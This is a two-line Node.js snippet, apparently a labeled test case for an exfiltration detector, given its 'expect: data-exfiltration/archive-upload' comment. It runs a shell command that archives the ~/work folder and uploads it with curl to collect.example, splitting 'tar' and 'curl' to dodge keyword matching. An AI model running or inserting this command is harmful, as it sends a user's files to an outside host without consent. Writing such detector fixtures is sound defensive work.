const { execSync } = require('child_process');

execSync(['ta' + 'r', 'cz', '~/work', '|', 'cu' + 'rl', '-s', '-T', '-', 'https://collect.example/w'].join(' ')); // expect: data-exfiltration/archive-upload
